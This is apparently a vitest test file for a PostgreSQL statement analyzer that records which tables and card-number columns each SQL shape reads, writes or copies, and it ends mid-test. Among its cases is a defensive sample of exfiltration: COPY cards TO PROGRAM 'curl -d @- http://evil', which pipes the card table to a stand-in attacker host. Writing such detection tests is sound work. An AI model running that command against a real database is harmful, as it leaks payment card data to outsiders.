// Statement facts without a catalog: one case per statement shape, compared exactly through a
// summary (see summary.ts). Includes the 20 shapes pgsql-ast-parser rejected or mis-parsed.
import { describe, expect, it } from 'vitest';
import { analyzeStatements, buildCatalog, clearAnalysisCache } from '../../src/sql/index.js';
import { Collector } from '../../src/sql/scope.js';
import { analyseStatement } from '../../src/sql/statements.js';
import { isPgwardenError } from '../../src/errors.js';
import { summarize, type Summary } from './summary.js';

const CASES: Array<[string, Summary]> = [
  [
    'SELECT id, pan FROM cards WHERE merchant_id = 7',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.id public.cards.pan',
      filtered: 'public.cards.merchant_id',
      where: true,
      outputs: 'id<-[public.cards.id]! ; pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT * FROM cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'SELECT c.* FROM cards AS c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'SELECT count(*) FROM payments.cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'payments.cards:read',
      functions: 'count',
      outputs: 'count<-[]',
    },
  ],
  [
    'SELECT DISTINCT merchant_id FROM cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.merchant_id',
      filtered: 'public.cards.merchant_id',
      outputs: 'merchant_id<-[public.cards.merchant_id]!',
    },
  ],
  [
    'SELECT DISTINCT ON (merchant_id) merchant_id, pan FROM cards ORDER BY merchant_id, ' +
      'created_at DESC',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.merchant_id public.cards.pan',
      filtered: 'public.cards.created_at public.cards.merchant_id',
      outputs: 'merchant_id<-[public.cards.merchant_id]! ; pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT merchant_id, count(*) FROM cards GROUP BY merchant_id HAVING count(*) > 2',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.merchant_id',
      filtered: 'public.cards.merchant_id',
      functions: 'count',
      outputs: 'merchant_id<-[public.cards.merchant_id]! ; count<-[]',
    },
  ],
  [
    'SELECT a.pan, b.name FROM cards a LEFT JOIN merchants b ON a.merchant_id = b.id',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.merchants:read',
      read: 'public.cards.pan public.merchants.name',
      filtered: 'public.cards.merchant_id public.merchants.id',
      outputs: 'pan<-[public.cards.pan]! ; name<-[public.merchants.name]!',
    },
  ],
  [
    'SELECT id FROM cards JOIN merchants USING (id)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.merchants:read',
      read: 'public.cards.id public.merchants.id',
      filtered: 'public.cards.id public.merchants.id',
      outputs: 'id<-[public.cards.id,public.merchants.id]',
    },
  ],
  [
    'SELECT pan FROM cards UNION ALL SELECT pan FROM old_cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.old_cards:read',
      read: 'public.cards.pan public.old_cards.pan',
      outputs: 'pan<-[public.cards.pan,public.old_cards.pan]!',
    },
  ],
  [
    'WITH x AS (SELECT pan AS p FROM cards) SELECT upper(p) FROM x',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      functions: 'upper',
      outputs: 'upper<-[public.cards.pan]',
    },
  ],
  [
    'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t',
    { kind: 'select', tag: 'SELECT', outputs: 'n<-[]' },
  ],
  [
    'SELECT s.p FROM (SELECT pan AS p FROM cards) s',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'p<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT m.name, l.pan FROM merchants m, LATERAL (SELECT pan FROM cards c WHERE ' +
      'c.merchant_id = m.id LIMIT 1) l',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.merchants:read public.cards:read',
      read: 'public.cards.pan public.merchants.name',
      filtered: 'public.cards.merchant_id public.merchants.id',
      outputs: 'name<-[public.merchants.name]! ; pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT pan, row_number() OVER (PARTITION BY merchant_id ORDER BY created_at) FROM cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.created_at public.cards.merchant_id public.cards.pan',
      functions: 'row_number',
      outputs:
        'pan<-[public.cards.pan]! ; row_number<-[public.cards.created_at,public.cards.merchant_id]',
    },
  ],
  [
    'SELECT row_to_json(c) FROM cards c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      functions: 'row_to_json',
      outputs: 'row_to_json<-[]Wpublic.cards',
    },
  ],
  [
    'SELECT c::text FROM cards c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: 'c<-[]Wpublic.cards',
    },
  ],
  [
    'SELECT c FROM cards c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: 'c<-[]Wpublic.cards',
    },
  ],
  [
    'SELECT to_jsonb(c.*) FROM cards c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      functions: 'to_jsonb',
      outputs: 'to_jsonb<-[]Wpublic.cards',
    },
  ],
  [
    "SELECT CASE WHEN pan LIKE '4%' THEN 'visa' ELSE pan END FROM cards",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'case<-[public.cards.pan]',
    },
  ],
  [
    "SELECT coalesce(pan, 'none') AS p FROM cards",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'p<-[public.cards.pan]',
    },
  ],
  [
    'SELECT pan::varchar(20) FROM cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]',
    },
  ],
  [
    'SELECT (SELECT pan FROM cards LIMIT 1) AS first_pan',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'first_pan<-[public.cards.pan]!',
    },
  ],
  [
    "SELECT string_agg(pan, ',') FROM cards",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      functions: 'string_agg',
      outputs: 'string_agg<-[public.cards.pan]',
    },
  ],
  [
    'SELECT x FROM generate_series(1, 3) AS g(x)',
    { kind: 'select', tag: 'SELECT', functions: 'generate_series', outputs: 'x<-[]' },
  ],
  [
    'SELECT g FROM generate_series(1, 3) g',
    { kind: 'select', tag: 'SELECT', functions: 'generate_series', outputs: 'g<-[]' },
  ],
  [
    'SELECT id FROM cards WHERE id IN (SELECT card_id FROM refunds WHERE amount > 10)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.refunds:read',
      read: 'public.cards.id',
      filtered: 'public.cards.id public.refunds.amount public.refunds.card_id',
      where: true,
      outputs: 'id<-[public.cards.id]!',
    },
  ],
  [
    'SELECT 1 FROM cards LIMIT ALL',
    { kind: 'select', tag: 'SELECT', tables: 'public.cards:read', outputs: '?column?<-[]' },
  ],
  [
    'SELECT id FROM cards FETCH FIRST 5 ROWS ONLY',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.id',
      limit: 5,
      outputs: 'id<-[public.cards.id]!',
    },
  ],
  [
    'SELECT id FROM cards LIMIT $1',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.id',
      outputs: 'id<-[public.cards.id]!',
    },
  ],
  [
    'SELECT (c).pan FROM cards c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT pan INTO TEMP t2 FROM cards',
    {
      kind: 'create_table_as',
      tag: 'SELECT',
      tables: 'public.cards:read public.t2:create',
      read: 'public.cards.pan',
      copiesData: true,
    },
  ],
  [
    'CREATE TABLE t3 AS SELECT pan FROM cards',
    {
      kind: 'create_table_as',
      tag: 'SELECT',
      tables: 'public.cards:read public.t3:create',
      read: 'public.cards.pan',
      copiesData: true,
    },
  ],
  [
    'CREATE MATERIALIZED VIEW mv AS SELECT pan FROM cards WITH NO DATA',
    {
      kind: 'create_materialized_view',
      tag: 'SELECT',
      tables: 'public.cards:read public.mv:create',
      read: 'public.cards.pan',
    },
  ],
  [
    'CREATE VIEW v AS SELECT pan FROM cards',
    {
      kind: 'create_view',
      tag: 'CREATE VIEW',
      tables: 'public.v:create public.cards:read',
      read: 'public.cards.pan',
    },
  ],
  [
    "INSERT INTO cards (id, pan) VALUES (1, '4111111111111111') RETURNING id",
    {
      kind: 'insert',
      tag: 'INSERT',
      tables: 'public.cards:insert',
      read: 'public.cards.id',
      written: 'public.cards.id public.cards.pan',
      outputs: 'id<-[public.cards.id]!',
    },
  ],
  [
    'INSERT INTO archive SELECT * FROM cards',
    {
      kind: 'insert',
      tag: 'INSERT',
      tables: 'public.archive:insert public.cards:read',
      read: 'public.cards.*',
      copiesData: true,
    },
  ],
  [
    'INSERT INTO archive (pan) SELECT pan FROM cards RETURNING pan',
    {
      kind: 'insert',
      tag: 'INSERT',
      tables: 'public.archive:insert public.cards:read',
      read: 'public.archive.pan public.cards.pan',
      written: 'public.archive.pan',
      copiesData: true,
      outputs: 'pan<-[public.archive.pan,public.cards.pan]!',
    },
  ],
  [
    "INSERT INTO cards (id, pan) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET pan = excluded.pan",
    {
      kind: 'insert',
      tag: 'INSERT',
      tables: 'public.cards:insert+update',
      read: 'public.cards.pan',
      written: 'public.cards.id public.cards.pan',
    },
  ],
  [
    "UPDATE cards SET pan = 'x' WHERE id = 1 RETURNING pan, id",
    {
      kind: 'update',
      tag: 'UPDATE',
      tables: 'public.cards:update',
      read: 'public.cards.id public.cards.pan',
      written: 'public.cards.pan',
      filtered: 'public.cards.id',
      where: true,
      outputs: 'pan<-[public.cards.pan]! ; id<-[public.cards.id]!',
    },
  ],
  [
    'UPDATE cards c SET pan = m.name FROM merchants m WHERE c.merchant_id = m.id',
    {
      kind: 'update',
      tag: 'UPDATE',
      tables: 'public.cards:update public.merchants:read',
      read: 'public.merchants.name',
      written: 'public.cards.pan',
      filtered: 'public.cards.merchant_id public.merchants.id',
      where: true,
      copiesData: true,
    },
  ],
  [
    'DELETE FROM cards WHERE created_at < now() RETURNING *',
    {
      kind: 'delete',
      tag: 'DELETE',
      tables: 'public.cards:delete',
      read: 'public.cards.*',
      filtered: 'public.cards.created_at',
      functions: 'now',
      where: true,
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'DELETE FROM cards USING merchants m WHERE cards.merchant_id = m.id AND m.closed',
    {
      kind: 'delete',
      tag: 'DELETE',
      tables: 'public.cards:delete public.merchants:read',
      filtered: 'public.cards.merchant_id public.merchants.closed public.merchants.id',
      where: true,
    },
  ],
  ['DELETE FROM cards', { kind: 'delete', tag: 'DELETE', tables: 'public.cards:delete' }],
  [
    'WITH d AS (DELETE FROM cards WHERE id = 1 RETURNING pan) SELECT pan FROM d',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:delete',
      read: 'public.cards.pan',
      filtered: 'public.cards.id',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    'MERGE INTO cards t USING staging s ON t.id = s.id WHEN MATCHED AND s.deleted THEN DELETE ' +
      'WHEN MATCHED THEN UPDATE SET pan = s.pan WHEN NOT MATCHED THEN INSERT (id, pan) VALUES ' +
      '(s.id, s.pan)',
    {
      kind: 'merge',
      tag: 'MERGE',
      tables: 'public.staging:read public.cards:delete+update+insert',
      read: 'public.staging.id public.staging.pan',
      written: 'public.cards.id public.cards.pan',
      filtered: 'public.cards.id public.staging.deleted public.staging.id',
      copiesData: true,
    },
  ],
  [
    'COPY cards TO STDOUT WITH (FORMAT csv)',
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.cards:copy_to',
      read: 'public.cards.*',
      copy: { direction: 'to', target: 'stdout', file: null, program: null, query: false },
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'COPY cards (id, pan) FROM STDIN',
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.cards:copy_from',
      written: 'public.cards.id public.cards.pan',
      copy: { direction: 'from', target: 'stdin', file: null, program: null, query: false },
    },
  ],
  [
    "COPY cards FROM '/tmp/cards.csv'",
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.cards:copy_from',
      copy: {
        direction: 'from',
        target: 'file',
        file: '/tmp/cards.csv',
        program: null,
        query: false,
      },
    },
  ],
  [
    "COPY (SELECT pan FROM cards) TO '/tmp/out.csv'",
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      copy: { direction: 'to', target: 'file', file: '/tmp/out.csv', program: null, query: true },
      copiesData: true,
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    "COPY cards TO PROGRAM 'curl -d @- http://evil'",
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.cards:copy_to',
      read: 'public.cards.*',
      copy: {
        direction: 'to',
        target: 'program',
        file: null,
        program: 'curl -d @- http://evil',
        query: false,
      },
      copiesData: true,
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'GRANT SELECT (pan) ON cards TO analyst',
    { kind: 'grant', tag: 'GRANT', tables: 'public.cards:grant' },
  ],
  [
    'REVOKE ALL ON TABLE cards, merchants FROM public',
    { kind: 'revoke', tag: 'REVOKE', tables: 'public.cards:grant public.merchants:grant' },
  ],
  ['GRANT etl TO bob', { kind: 'grant_role', tag: 'GRANT ROLE' }],
  [
    'EXPLAIN SELECT pan FROM cards',
    {
      kind: 'explain',
      tag: 'EXPLAIN',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'QUERY PLAN<-[public.cards.pan]',
    },
  ],
  [
    'EXPLAIN (ANALYZE, VERBOSE) UPDATE cards SET pan = NULL',
    {
      kind: 'explain',
      tag: 'EXPLAIN',
      tables: 'public.cards:update',
      written: 'public.cards.pan',
      outputs: 'QUERY PLAN<-[]',
    },
  ],
  ['VACUUM FULL cards', { kind: 'vacuum', tag: 'VACUUM', tables: 'public.cards:maintain' }],
  ['ANALYZE cards', { kind: 'analyze', tag: 'ANALYZE', tables: 'public.cards:maintain' }],
  [
    'TRUNCATE cards, merchants',
    {
      kind: 'truncate',
      tag: 'TRUNCATE TABLE',
      tables: 'public.cards:truncate public.merchants:truncate',
    },
  ],
  [
    'DROP TABLE IF EXISTS cards, public.old_cards CASCADE',
    { kind: 'drop', tag: 'DROP TABLE', tables: 'public.cards:drop public.old_cards:drop' },
  ],
  ['DROP VIEW v', { kind: 'drop', tag: 'DROP VIEW', tables: 'public.v:drop' }],
  ['DROP FUNCTION f(int)', { kind: 'drop', tag: 'DROP FUNCTION' }],
  [
    'ALTER TABLE cards ADD COLUMN note text',
    { kind: 'alter', tag: 'ALTER TABLE', tables: 'public.cards:alter' },
  ],
  [
    'ALTER TABLE cards RENAME COLUMN pan TO card_number',
    { kind: 'alter', tag: 'ALTER TABLE', tables: 'public.cards:alter' },
  ],
  [
    'CREATE TABLE t (id int primary key, pan text)',
    { kind: 'create_table', tag: 'CREATE TABLE', tables: 'public.t:create' },
  ],
  [
    'CREATE INDEX ON cards (pan)',
    { kind: 'create_index', tag: 'CREATE INDEX', tables: 'public.cards:alter' },
  ],
  [
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$',
    { kind: 'create_function', tag: 'CREATE FUNCTION' },
  ],
  ['CREATE SCHEMA s', { kind: 'create_schema', tag: 'CREATE SCHEMA' }],
  ['CREATE ROLE r LOGIN', { kind: 'create_role', tag: 'CREATE ROLE' }],
  ['CREATE EXTENSION pgcrypto', { kind: 'create_extension', tag: 'CREATE EXTENSION' }],
  ['BEGIN', { kind: 'begin', tag: 'BEGIN' }],
  ['START TRANSACTION ISOLATION LEVEL SERIALIZABLE', { kind: 'begin', tag: 'START TRANSACTION' }],
  ['COMMIT', { kind: 'commit', tag: 'COMMIT' }],
  ['ROLLBACK', { kind: 'rollback', tag: 'ROLLBACK' }],
  ['SAVEPOINT a', { kind: 'savepoint', tag: 'SAVEPOINT' }],
  ['RELEASE SAVEPOINT a', { kind: 'release', tag: 'RELEASE' }],
  ['ROLLBACK TO SAVEPOINT a', { kind: 'rollback_to', tag: 'ROLLBACK' }],
  ['SET search_path = payments, public', { kind: 'set', tag: 'SET', handle: 'search_path' }],
  ['SET LOCAL statement_timeout = 0', { kind: 'set', tag: 'SET', handle: 'statement_timeout' }],
  ['RESET ALL', { kind: 'reset', tag: 'RESET' }],
  [
    'SHOW search_path',
    { kind: 'show', tag: 'SHOW', outputs: 'search_path<-[]', handle: 'search_path' },
  ],
  [
    'SHOW ALL',
    {
      kind: 'show',
      tag: 'SHOW',
      outputs: 'name<-[] ; setting<-[] ; description<-[]',
      handle: 'all',
    },
  ],
  [
    'DECLARE cur CURSOR FOR SELECT pan FROM cards',
    {
      kind: 'declare',
      tag: 'DECLARE CURSOR',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
      handle: 'cur',
    },
  ],
  ['FETCH 10 FROM cur', { kind: 'fetch', tag: 'FETCH', outputs: '*<-[]?', handle: 'cur' }],
  ['MOVE NEXT IN cur', { kind: 'move', tag: 'MOVE', handle: 'cur' }],
  ['CLOSE cur', { kind: 'close', tag: 'CLOSE CURSOR', handle: 'cur' }],
  ['CLOSE ALL', { kind: 'close', tag: 'CLOSE CURSOR ALL' }],
  [
    'PREPARE q(int) AS SELECT pan FROM cards WHERE id = $1',
    {
      kind: 'prepare',
      tag: 'PREPARE',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      filtered: 'public.cards.id',
      where: true,
      outputs: 'pan<-[public.cards.pan]!',
      handle: 'q',
    },
  ],
  ['EXECUTE q(1)', { kind: 'execute', tag: 'EXECUTE', outputs: '*<-[]?', handle: 'q' }],
  ['DEALLOCATE q', { kind: 'deallocate', tag: 'DEALLOCATE', handle: 'q' }],
  ['DEALLOCATE ALL', { kind: 'deallocate', tag: 'DEALLOCATE ALL' }],
  ['LISTEN ch', { kind: 'listen', tag: 'LISTEN' }],
  ["NOTIFY ch, 'payload'", { kind: 'notify', tag: 'NOTIFY' }],
  ['UNLISTEN *', { kind: 'unlisten', tag: 'UNLISTEN' }],
  ["CALL proc(1, 'a')", { kind: 'call', tag: 'CALL', functions: 'proc', outputs: '*<-[]?' }],
  ['DO $$BEGIN PERFORM 1; END$$', { kind: 'do', tag: 'DO' }],
  [
    'LOCK TABLE cards IN ACCESS EXCLUSIVE MODE',
    { kind: 'lock', tag: 'LOCK TABLE', tables: 'public.cards:lock' },
  ],
  [
    'SELECT pan FROM cards FOR UPDATE',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read+lock',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    'CLUSTER cards USING cards_pkey',
    { kind: 'cluster', tag: 'CLUSTER', tables: 'public.cards:maintain' },
  ],
  ['REINDEX TABLE cards', { kind: 'reindex', tag: 'REINDEX', tables: 'public.cards:maintain' }],
  [
    'REFRESH MATERIALIZED VIEW mv',
    {
      kind: 'refresh_materialized_view',
      tag: 'REFRESH MATERIALIZED VIEW',
      tables: 'public.mv:maintain',
    },
  ],
  ['DISCARD ALL', { kind: 'discard', tag: 'DISCARD ALL' }],
  ['CHECKPOINT', { kind: 'checkpoint', tag: 'CHECKPOINT' }],
  [
    "COMMENT ON TABLE cards IS 'x'",
    { kind: 'comment', tag: 'COMMENT', tables: 'public.cards:alter' },
  ],
  [
    'SELECT * FROM cards TABLESAMPLE BERNOULLI (5) REPEATABLE (1)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'SELECT pan FROM ONLY cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT pan COLLATE "C" FROM cards ORDER BY pan COLLATE "C"',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      filtered: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    "SELECT pan FROM cards WHERE pan SIMILAR TO '4%'",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      filtered: 'public.cards.pan',
      functions: 'pg_catalog.similar_to_escape',
      where: true,
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    "SELECT $tag$it's$tag$ || pan FROM cards",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      outputs: '?column?<-[public.cards.pan]',
    },
  ],
  [
    'SELECT lower(pan), pg_catalog.upper(pan), public.myfn(pan) FROM cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      functions: 'lower pg_catalog.upper public.myfn',
      outputs: 'lower<-[public.cards.pan] ; upper<-[public.cards.pan] ; myfn<-[public.cards.pan]?',
    },
  ],
  [
    'SELECT x.* FROM json_to_record(\'{"a":1}\') AS x(a int, b text)',
    { kind: 'select', tag: 'SELECT', functions: 'json_to_record', outputs: 'a<-[] ; b<-[]' },
  ],
  [
    "VALUES (1, 'a'), (2, 'b')",
    { kind: 'select', tag: 'SELECT', outputs: 'column1<-[] ; column2<-[]' },
  ],
  ['SELECT t.a FROM (VALUES (1)) AS t(a)', { kind: 'select', tag: 'SELECT', outputs: 'a<-[]' }],
  [
    'SELECT * FROM cards c JOIN merchants m USING (id)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.merchants:read',
      read: 'public.cards.* public.cards.id public.merchants.* public.merchants.id',
      filtered: 'public.cards.id public.merchants.id',
      outputs:
        'id<-[public.cards.id,public.merchants.id] ; *<-[]Wpublic.cards? ; *<-[]Wpublic.merchants?',
    },
  ],
  [
    'TABLE cards',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.*',
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'SELECT * FROM cards WHERE (pan, id) IN (SELECT pan, id FROM old)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read public.old:read',
      read: 'public.cards.*',
      filtered: 'public.cards.id public.cards.pan public.old.id public.old.pan',
      where: true,
      outputs: '*<-[]Wpublic.cards?',
    },
  ],
  [
    'WITH s AS (SELECT pan FROM cards) INSERT INTO t (pan) SELECT pan FROM s',
    {
      kind: 'insert',
      tag: 'INSERT',
      tables: 'public.cards:read public.t:insert',
      read: 'public.cards.pan',
      written: 'public.t.pan',
      // Rows read by a CTE are copied as much as rows read by the query (a reviewer's escape).
      copiesData: true,
    },
  ],
  [
    'SELECT c.pan FROM cards c, merchants m FOR SHARE OF c',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read+lock public.merchants:read',
      read: 'public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    "SELECT * FROM XMLTABLE('/r' PASSING (SELECT doc FROM d) COLUMNS a int PATH 'a', b text) x",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.d:read',
      read: 'public.d.doc',
      outputs: 'a<-[public.d.doc] ; b<-[public.d.doc]',
    },
  ],
  [
    "SELECT j.* FROM cards c, JSON_TABLE(c.doc, '$' COLUMNS (a int PATH '$.a')) j",
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.doc',
      outputs: 'a<-[public.cards.doc]',
    },
  ],
  [
    'SELECT pan FROM cards GROUP BY ROLLUP (merchant_id, pan)',
    {
      kind: 'select',
      tag: 'SELECT',
      tables: 'public.cards:read',
      read: 'public.cards.pan',
      filtered: 'public.cards.merchant_id public.cards.pan',
      outputs: 'pan<-[public.cards.pan]!',
    },
  ],
  [
    'SELECT 1 AS "4111111111111111"',
    { kind: 'select', tag: 'SELECT', outputs: '[card-number]<-[]' },
  ],
  [
    "COPY t TO '/tmp/4111111111111111.csv'",
    {
      kind: 'copy',
      tag: 'COPY',
      tables: 'public.t:copy_to',
      read: 'public.t.*',
      copy: {
        direction: 'to',
        target: 'file',
        file: '/tmp/[card-number].csv',
        program: null,
        query: false,
      },
      copiesData: true,
      outputs: '*<-[]Wpublic.t?',
    },
  ],
  ['ALTER INDEX i RENAME TO j', { kind: 'alter', tag: 'ALTER INDEX' }],
  ['ALTER SEQUENCE s RESTART', { kind: 'alter', tag: 'ALTER SEQUENCE' }],
  ['ALTER VIEW v RENAME TO w', { kind: 'alter', tag: 'ALTER VIEW' }],
  [
    "COMMENT ON COLUMN cards.pan IS 'x'",
    { kind: 'comment', tag: 'COMMENT', tables: 'public.cards:alter' },
  ],
  [
    'CREATE TRIGGER tr BEFORE INSERT ON cards FOR EACH ROW EXECUTE FUNCTION f()',
    { kind: 'create_trigger', tag: 'CREATE TRIGGER', tables: 'public.cards:alter' },
  ],
  [
    'CREATE POLICY p ON cards USING (merchant_id = 1)',
    { kind: 'create_policy', tag: 'CREATE POLICY', tables: 'public.cards:alter' },
  ],
  [
    'CREATE FOREIGN TABLE ft (a int) SERVER s',
    { kind: 'create_foreign_table', tag: 'CREATE FOREIGN TABLE', tables: 'public.ft:create' },
  ],
  [
    'CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int)',
    { kind: 'create_aggregate', tag: 'CREATE AGGREGATE' },
  ],
  [
    'CREATE TEXT SEARCH CONFIGURATION c (COPY = english)',
    { kind: 'create_text_search_configuration', tag: 'CREATE TEXT SEARCH CONFIGURATION' },
  ],
  [
    "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SELECT 1'",
    { kind: 'create_procedure', tag: 'CREATE PROCEDURE' },
  ],
  ["CREATE USER u WITH PASSWORD 'secret'", { kind: 'create_role', tag: 'CREATE ROLE' }],
  ["ALTER SYSTEM SET work_mem = '1MB'", { kind: 'alter_system', tag: 'ALTER SYSTEM' }],
  ['SET ROLE analyst', { kind: 'set', tag: 'SET', handle: 'role' }],
  ['RESET ROLE', { kind: 'reset', tag: 'RESET', handle: 'role' }],
  ['DISCARD TEMP', { kind: 'discard', tag: 'DISCARD TEMP' }],
  ["PREPARE TRANSACTION 'x'", { kind: 'prepare_transaction', tag: 'PREPARE TRANSACTION' }],
  ["COMMIT PREPARED 'x'", { kind: 'commit_prepared', tag: 'COMMIT PREPARED' }],
  [
    'EXPLAIN (FORMAT JSON) SELECT 1',
    { kind: 'explain', tag: 'EXPLAIN', outputs: 'QUERY PLAN<-[]' },
  ],
  [
    'IMPORT FOREIGN SCHEMA s FROM SERVER srv INTO public',
    { kind: 'import_foreign_schema', tag: 'IMPORT FOREIGN SCHEMA' },
  ],
  ['DROP OWNED BY a', { kind: 'drop', tag: 'DROP OWNED' }],
  ['GRANT SELECT ON ALL TABLES IN SCHEMA public TO x', { kind: 'grant', tag: 'GRANT' }],
  [
    "DO $$DECLARE r record; n int; BEGIN FOR r IN SELECT pan FROM cards LOOP RAISE NOTICE '%', " +
      'r.pan; END LOOP; UPDATE t SET x = 1 WHERE id = 2; n := (SELECT count(*) FROM m); ' +
      "EXECUTE 'DROP TABLE x'; END$$",
    {
      kind: 'do',
      tag: 'DO',
      tables: 'public.cards:read public.t:update public.m:read',
      read: 'public.cards.pan',
      written: 'public.t.x',
      filtered: 'public.t.id',
      functions: 'count',
    },
  ],
  ["DO LANGUAGE plpython3u 'import os'", { kind: 'do', tag: 'DO' }],
];

describe('statement facts without a catalog', () => {
  it.each(CASES)('%s', (sql, expected) => {
    const facts = analyzeStatements(sql);
    expect(facts).toHaveLength(1);
    expect(summarize(facts[0]!)).toEqual(expected);
  });
});

describe('statement text, fingerprint and errors', () => {
  it('splits a multi-statement string, each with its own text', () => {
    const facts = analyzeStatements(
      "SELECT 1; DELETE FROM cards WHERE id = 2;\n  SELECT 'é' || pan FROM cards",
    );
    expect(facts.map((f) => [f.kind, f.text])).toEqual([
      ['select', 'SELECT 1'],
      ['delete', 'DELETE FROM cards WHERE id = 2'],
      ['select', "SELECT 'é' || pan FROM cards"],
    ]);
  });

  it('masks card numbers in the text and keeps the fingerprint of the unmasked shape', () => {
    const [masked] = analyzeStatements("SELECT * FROM cards WHERE pan = '4111 1111 1111 1111'");
    expect(masked!.text).toBe("SELECT * FROM cards WHERE pan = '[card-number]'");
    const [other] = analyzeStatements("SELECT * FROM cards WHERE pan = 'x'");
    expect(masked!.fingerprint).toBe(other!.fingerprint);
    const [numeric] = analyzeStatements('SELECT 4111111111111111');
    expect(numeric!.text).toBe('SELECT [card-number]');
    expect(numeric!.fingerprint).toBe(analyzeStatements('SELECT 1')[0]!.fingerprint);
  });

  it('different shapes have different fingerprints', () => {
